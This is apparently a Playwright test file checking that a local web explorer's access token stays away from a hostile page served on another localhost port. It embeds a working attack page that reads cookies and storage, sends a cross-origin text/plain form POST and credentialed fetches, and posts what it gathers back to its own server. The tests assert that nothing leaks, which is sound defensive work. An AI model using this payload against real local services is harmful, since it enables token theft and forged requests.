"""Who gets the live page's token, in a real browser: its own tabs, and no other program's page."""

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from common import new_context
from explorer import SHORT, Server

#: What a page on another port of the same host can try. It tells its own server what it gets.
HOSTILE = """<!doctype html><meta name="referrer" content="unsafe-url"><title>other</title>
<img src="/img"><script src="/script.js"></script><link rel="stylesheet" href="/style.css">
<iframe src="VICTIM/"></iframe><img src="VICTIM/static/icon.svg"><img src="VICTIM/api/about">
<iframe name="posted"></iframe>
<form method="post" action="VICTIM/api/runs" enctype="text/plain" target="posted">
<input name='{"toml":"' value='"}'></form>
<script type="module">
const got = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
const attempt = async (name, work) => {
  try { got.push(`${name}: ${await work()}`); } catch (error) { got.push(`${name}: ${error}`); }
};
document.forms[0].submit();
for (const path of ["/", "/api/about", "/api/kept", "/api/events"])
  for (const mode of ["cors", "no-cors"])
    await attempt(`${mode} ${path}`, async () =>
      (await fetch("VICTIM" + path, { credentials: "include", mode })).text());
await attempt("start", async () => (await fetch("VICTIM/api/runs", {
  method: "POST", credentials: "include", mode: "no-cors", body: '{"toml": ""}' })).status);
await attempt("module", async () => JSON.stringify(await import("VICTIM/static/api.js")));
await attempt("window", async () => {
  const other = open("VICTIM/");
  await new Promise((done) => setTimeout(done, 1000));
  return other.localStorage.getItem("token");
});
await attempt("frame", () => frames[0].localStorage.getItem("token"));
await fetch("/got", { method: "POST", credentials: "include", body: got.join("\\n") });
document.title = "told";
</script>"""


class Other(BaseHTTPRequestHandler):
    """Another user's server. It remembers all that a browser sends to it."""

    def do_GET(self):
        length = int(self.headers.get("content-length", 0))
        body = self.rfile.read(length).decode()
        self.server.heard.append((self.path, dict(self.headers), body))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", "planted=1; Path=/")
        self.end_headers()
        if self.path == "/":
            self.wfile.write(HOSTILE.replace("VICTIM", self.server.victim).encode())

    do_POST = do_GET  # noqa: N815 (the name that the class looks for)

    def log_message(self, *_):
        """Is quiet."""


@pytest.fixture
def other(server):
    """A server of somebody else on another port of the same address."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Other) as running:
        running.heard = []
        running.victim = f"http://{server.host}"
        running.url = f"http://127.0.0.1:{running.server_port}/"
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield running
        running.shutdown()


@pytest.fixture
def context(browser):
    opened = new_context(browser)
    yield opened
    opened.close()


def enter(context, url):
    page = context.new_page()
    page.goto(url)
    page.wait_for_selector(".card", state="attached")  # a link's run hides them at once
    return page


def enter_again(page, url):
    """In the same tab another fragment loads nothing: the page does that itself, a little later."""
    with page.expect_event("load"):
        page.goto(url)


def test_a_page_on_another_port_hears_nothing_that_opens_the_page(server, other, context):
    page = enter(context, server.url)
    # A kept page of the attacker's, whose links and pictures lead to them.
    (server.folder / "theirs").mkdir(parents=True, exist_ok=True)
    (server.folder / "theirs" / "index.html").write_text(
        f'<meta name="referrer" content="unsafe-url"><img src="{other.url}picture">'
        f'<a href="{other.url}left" referrerpolicy="unsafe-url">a link</a>'
    )
    page.click("#show-kept")
    with context.expect_page() as kept:
        page.locator(".kept-row", has_text="theirs").get_by_role("link").click()
    kept.value.get_by_role("link").click()
    kept.value.wait_for_url(f"{other.url}left")
    before = set(server.runs())
    # They come from the live page itself, by its tab, and by a new one.
    for visit in (page, context.new_page()):
        visit.goto(other.url)
        expect(visit).to_have_title("told")
    assert {"/", "/img", "/left", "/got"} <= {path for path, _, _ in other.heard}
    assert "/picture" not in {path for path, _, _ in other.heard}
    said = json.dumps(other.heard)
    assert server.token not in said
    assert "tcp_cc.h" not in said  # of the answer to /api/about
    # All that it heard, sent back: a cookie, a header, each word.
    for _, headers, body in other.heard:
        sent = {name.lower().replace("-", "_"): value for name, value in headers.items()}
        sent |= {"host": server.host, "origin": f"http://{server.host}", "content_length": None}
        replayed = {name: each for name, each in sent.items() if not name.startswith("sec_")}
        assert server.ask("GET", "/api/about", entered=False, **replayed).status == 401
        for word in set(re.findall(r"[\w-]{16,}", f"{headers} {body}")):
            answer = server.ask("GET", "/api/about", authorization=f"Bearer {word}")
            assert answer.status == 401, word
    # The way to the attacker's own kept page opens nothing else.
    keys = set(re.findall(r"/kept/([\w-]{32})/", said))
    assert keys == {server.kept("theirs/x").split("/")[2]}
    (server.folder / "mine").mkdir(exist_ok=True)
    (server.folder / "mine" / "index.html").write_text("")
    for key in keys:
        status = server.ask("GET", f"/kept/{key}/mine/index.html", entered=False).status
        assert status == 401
    assert set(server.runs()) == before


def test_the_page_works_after_a_reload_and_in_other_tabs(server, context):
    page = enter(context, server.url)
    assert page.evaluate("location.href") == f"http://{server.host}/"
    page.fill('[data-path="duration"]', "5s")
    page.click("#run")
    expect(page.locator(".run")).to_have_attribute("data-state", "done")
    page.reload()
    expect(page.locator(".run")).to_have_attribute("data-state", "done")  # the address's link
    link = page.evaluate("location.href")
    assert "#" in link
    assert server.token not in link
    for address in (link, f"http://{server.host}/", server.url):
        tab = enter(context, address)
        assert server.token not in tab.evaluate("location.href")
        tab.click('.card[data-name="07-bbr-shallow"]') if address != link else None
        expect(tab.locator(".run")).to_have_attribute("data-state", "done")
        tab.close()


def test_a_browser_without_the_token_is_told_where_it_is(server, context):
    page = context.new_page()
    page.goto(f"http://{server.host}/")
    expect(page.locator("#gallery .lead")).to_contain_text("that `ackclock explore` printed")
    enter_again(page, f"http://{server.host}/#token=wrong")
    expect(page.locator("#gallery .lead")).to_contain_text("that `ackclock explore` printed")
    enter_again(page, server.url)
    page.wait_for_selector(".card")


def test_a_tab_of_a_page_that_has_ended_takes_the_next_address(context, tmp_path):
    first = Server(tmp_path)
    page = enter(context, first.url)
    first.close()
    expect(page.locator("#note")).to_contain_text("Connection lost")
    second = Server(tmp_path, "--port", str(first.port))
    try:
        expect(page.locator("#note")).to_contain_text("has ended")
        enter_again(page, second.url)
        page.click('.card[data-name="07-bbr-shallow"]')
        expect(page.locator(".run")).to_have_attribute("data-state", "done")
        run = second.start(SHORT.format(algorithm="cubic"))
        second.wait(run, "done")
    finally:
        second.close()
